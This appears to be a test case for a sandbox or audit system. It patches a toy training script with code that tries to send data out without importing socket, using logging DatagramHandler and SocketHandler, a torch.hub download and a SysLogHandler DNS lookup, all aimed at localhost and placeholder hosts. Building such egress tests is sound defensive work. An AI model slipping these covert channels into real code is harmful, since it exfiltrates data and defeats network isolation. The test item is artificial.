"""Reach the network through libraries that are there to train: a store, a download, a log handler, a name.

claim: no socket is imported, and bytes leave all the same, by DNS too
family: network
caught by: audit
behind: sandbox
twin: logs_more
base: tests/toy_train.py
"""

REPLACE = [
    (
        """\
    torch.set_num_threads(1)
""",
        """\
    torch.set_num_threads(1)
    import logging.handlers

    def attempt(action):
        try:
            action()
        except Exception as error:
            print(type(error).__name__, error, flush=True)

    def datagram():
        handler = logging.handlers.DatagramHandler("127.0.0.1", @PORT@)
        handler.handleError = lambda record: print("no datagram")
        handler.emit(logging.LogRecord("key", 20, "", 0, "key", (), None))

    def stream():
        handler = logging.handlers.SocketHandler("127.0.0.1", @PORT@)
        handler.handleError = lambda record: print("no stream")
        handler.emit(logging.LogRecord("key", 20, "", 0, "key", (), None))

    attempt(datagram)
    attempt(stream)
    attempt(lambda: torch.hub.load_state_dict_from_url("http://127.0.0.1:@PORT@/key", model_dir="tmp"))
    attempt(lambda: logging.handlers.SysLogHandler(("key.invalid", 514)))
    raise SystemExit(3)
""",
    ),
]
